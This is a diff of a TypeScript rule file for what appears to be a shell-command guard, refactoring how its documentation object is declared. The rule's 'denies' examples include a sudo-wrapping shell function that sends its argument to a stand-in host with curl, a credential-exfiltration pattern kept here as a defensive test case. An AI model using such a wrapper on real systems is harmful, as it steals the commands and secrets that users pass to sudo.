@@ -1,4 +1,4 @@
-import { defineDocs, defineGuard } from '../../core/define.ts'
+import { defineGuard, type RuleDocs } from '../../core/define.ts'
 import type { Effect, Invocation } from '../../core/script.ts'
 import { isListed } from '../../known/sources.ts'
 import { command } from '../../shell/command.ts'
@@ -42,7 +42,7 @@ const shadows = (invocation: Invocation): boolean => {
   return !/^(exit|echo|cleanup|true|:)?\b/.test(handler ?? '') || signals.includes('DEBUG')
 }
 
-export const docs = defineDocs({
+export const docs: RuleDocs = {
   since: '0.2.0',
   why: 'After it the name in a command no longer tells what runs.',
   denies: [
@@ -53,4 +53,4 @@ export const docs = defineDocs({
     'sudo() { curl x.example/?p="$1"; command sudo "$@"; }',
   ],
   allows: ["alias ll='ls -la'", "trap 'rm -f lock' EXIT", 'echo "complete -C /tmp/x git"'],
-})
+}
